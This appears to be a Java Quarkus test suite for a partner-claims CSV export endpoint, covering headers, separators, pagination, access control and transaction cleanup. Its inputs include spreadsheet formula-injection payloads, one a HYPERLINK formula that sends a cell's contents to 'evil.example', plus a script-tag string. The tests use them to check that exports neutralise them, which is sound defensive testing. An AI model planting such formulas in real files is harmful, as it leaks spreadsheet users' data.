package org.cpor.intake.claim;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.cpor.intake.Claiming.as;
import static org.cpor.intake.Claiming.claim;
import static org.cpor.intake.Claiming.file;
import static org.cpor.intake.Claiming.newPartner;
import static org.cpor.intake.Claiming.withRole;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.matchesRegex;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import javax.sql.DataSource;
import org.cpor.intake.RequestLog;
import org.cpor.testing.StackTestResource;
import org.cpor.testing.Tokens;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@WithTestResource(StackTestResource.class)
class ExportingClaimsComponentTest {

  @TestHTTPResource("/claims/export")
  URI export;

  @Inject DataSource database;

  private final String partner = newPartner();
  private final String domain = "e" + UUID.randomUUID() + ".example";

  @Test
  void anExportIsACsvFileWithAHeaderAndARowForEachClaim() throws IOException {
    UUID claimId = file(partner, claim().put("note", "plain"));

    Response answer = as(partner).get("/claims/export");

    answer
        .then()
        .statusCode(200)
        .header("Content-Type", matchesRegex("(?i)text/csv; ?charset=utf-8"))
        .header("Content-Disposition", equalTo("attachment; filename=\"claims.csv\""))
        .header("Cache-Control", equalTo("private, no-store"))
        .header("X-Content-Type-Options", equalTo("nosniff"));
    assertThat(answer.asString())
        .startsWith("\"claimId\",\"partnerId\",\"mpnId\",\"tenantId\",\"domain\",")
        .endsWith(",\"hu\",\"plain\"\r\n");
    assertThat(rows(answer))
        .singleElement()
        .satisfies(row -> {
          assertThat(row).containsEntry("claimId", claimId.toString());
          assertThat(row).containsEntry("status", "SUBMITTED").containsEntry("reviewDueAt", "");
        });
  }

  @Test
  void anEmptyExportHasOnlyAHeader() {
    assertThat(as(partner).get("/claims/export").asString())
        .startsWith("\"claimId\",")
        .endsWith(",\"note\"\r\n")
        .hasLineCount(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")"
      })
  void noCellIsAFormula(String note) throws IOException {
    ObjectNode claim = claim().put("note", note).put("subscriptionId", "=2");
    claim.putObject("customerContact").put("name", "@name").put("email", "+a@b.example");
    file(partner, claim);

    assertThat(rows(as(partner).get("/claims/export")))
        .singleElement()
        .satisfies(row -> {
          assertThat(row.get("note")).startsWith("'").isNotEqualTo(note);
          assertThat(row).containsEntry("subscriptionId", "'=2");
          assertThat(row).containsEntry("customerContactName", "'@name");
          assertThat(row).containsEntry("customerContactEmail", "'+a@b.example");
        });
  }

  /**
   * Splits the file at all separators, because a spreadsheet can use another separator than the
   * file.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "ok;=HYPERLINK(A1)",
        "x\t=1+1",
        "a,=2+2",
        "a;\"=1",
        "a; \u200b+1",
        "a\r\n@SUM(A1)",
        "a\u2028-1",
        "＝1+1",
        "a;＠x"
      })
  void noCellIsAFormulaWhicheverSeparatorASpreadsheetSplitsAt(String note) {
    ObjectNode claim = claim().put("note", note);
    claim.putObject("customerContact").put("name", "Kiss;=1+1").put("email", "a@b.example");
    file(partner, claim);

    for (String separator : List.of(",", ";", "tab")) {
      String table =
          as(partner).queryParam("separator", separator).get("/claims/export").asString();

      assertThat(table.substring(table.indexOf('\n') + 1).split("[,;\t\r\n\u2028]"))
          .hasSizeGreaterThan(20)
          .noneMatch(cell -> cell.matches("[\\s\"\u200b]*[=+@＝＠-].*"));
    }
  }

  @Test
  void theSeparatorAndAByteOrderMarkCanBeAskedFor() throws IOException {
    file(partner, claim().put("note", "a;b"));

    for (Map.Entry<String, String> asked :
        Map.of("", ",", ";", ";", "semicolon", ";", "tab", "\t", "comma", ",").entrySet()) {
      RequestSpecification request = as(partner).queryParam("bom", "true");
      if (!asked.getKey().isEmpty()) {
        request.queryParam("separator", asked.getKey());
      }
      byte[] table = request.get("/claims/export").then().statusCode(200).extract().asByteArray();

      assertThat(new String(table, UTF_8))
          .startsWith("\ufeff\"claimId\"" + asked.getValue() + "\"partnerId\"")
          .contains(asked.getValue() + "\"a;b\"\r\n");
    }
    assertThat(as(partner).get("/claims/export").asByteArray()[0]).isEqualTo((byte) '"');
  }

  /** If a semicolon is not encoded, the HTTP server ends the parameter there. */
  @Test
  void aBareSemicolonIsAccepted() {
    assertThat(
            as(partner)
                .urlEncodingEnabled(false)
                .get("/claims/export?separator=;&bom=false")
                .then()
                .statusCode(200)
                .extract()
                .asString())
        .startsWith("\"claimId\";\"partnerId\";");
  }

  @ParameterizedTest
  @ValueSource(strings = {"separator=x", "separator=;;", "bom=yes"})
  void anotherSeparatorIsRefused(String query) {
    as(partner)
        .get("/claims/export?" + query)
        .then()
        .statusCode(400)
        .body("violations[0].field", equalTo(query.substring(0, query.indexOf('='))));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "😀👩‍👩‍👧",
        "שלום עולם‏",
        "<script>alert(1)</script>",
        "a,b;\"c\"\r\nd",
        "\"",
        "two  spaces"
      })
  void anyTextComesBackAsItWasSent(String note) throws IOException {
    file(partner, claim().put("note", note));

    assertThat(rows(as(partner).get("/claims/export")))
        .singleElement()
        .satisfies(row -> assertThat(row).containsEntry("note", note));
    as(partner).get("/claims").then().body("items[0].note", equalTo(note));
  }

  @Test
  void anExportOfManyPagesEqualsTheList() throws Exception {
    StoredClaims.add(database, partner, domain, "note", 2_345);

    for (String query :
        List.of("", "?sort=filedAt", "?status=UNDER_REVIEW&sort=reviewDueAt", "?competing=true")) {
      List<Map<String, String>> rows = rows(as(partner).get("/claims/export" + query));
      List<Map<String, String>> asReviewer =
          rows(withRole("reviewer").queryParam("q", domain).get("/claims/export" + query));

      assertThat(asReviewer).isEqualTo(rows);
      assertThat(rows.stream().map(row -> row.get("claimId"))).doesNotHaveDuplicates();
      List<String> first = as(partner).get("/claims" + query).path("items.claimId");
      assertThat(rows.stream().map(row -> row.get("claimId")).limit(50)).isEqualTo(first);
    }
    assertThat(rows(as(partner).get("/claims/export"))).hasSize(2_345);
  }

  @Test
  void anExportIsRefusedLikeAList() {
    as(newPartner()).get("/claims/export?partnerId=" + partner).then().statusCode(200);
    as(partner)
        .get("/claims/export?sort=status")
        .then()
        .statusCode(400)
        .contentType("application/problem+json");
    withRole("directory-feed").get("/claims/export").then().statusCode(403);
    RequestSpecification stranger = io.restassured.RestAssured.given();
    stranger.get("/claims/export").then().statusCode(401);
  }

  @Test
  void aClientThatStopsReadingHoldsNoTransactionAndItsDisconnectIsNotAnError() throws Exception {
    StoredClaims.add(database, partner, domain, "x".repeat(10_000), 3_000);
    try (RequestLog log = new RequestLog()) {
      try (Socket client = new Socket()) {
        client.setReceiveBufferSize(4_096);
        client.connect(
            new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), export.getPort()));
        client
            .getOutputStream()
            .write(
                "GET %s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n"
                    .formatted(export.getPath(), Tokens.forPartner(partner))
                    .getBytes(US_ASCII));
        assertThat(new String(client.getInputStream().readNBytes(12), UTF_8))
            .isEqualTo("HTTP/1.1 200");

        await()
            .during(Duration.ofSeconds(2))
            .atMost(Duration.ofSeconds(20))
            .until(() -> transactionsThatStand() == 0);

        as(partner).get("/claims").then().statusCode(200);
      }
      log.tellsOfNoFault(export.getPath());
    }
  }

  /** The number of open transactions of this service that have run no statement for a second. */
  private int transactionsThatStand() throws SQLException {
    try (Connection connection = database.getConnection();
        PreparedStatement count =
            connection.prepareStatement(
                """
                select count(*) from pg_stat_activity
                 where datname = current_database() and state like 'idle in transaction%'
                   and state_change < clock_timestamp() - interval '1 second'
                """);
        ResultSet row = count.executeQuery()) {
      row.next();
      return row.getInt(1);
    }
  }

  private static List<Map<String, String>> rows(Response answer) throws IOException {
    try (MappingIterator<Map<String, String>> rows =
        new CsvMapper()
            .readerForMapOf(String.class)
            .with(CsvSchema.emptySchema().withHeader())
            .readValues(new String(answer.asByteArray(), UTF_8))) {
      return rows.readAll();
    }
  }
}
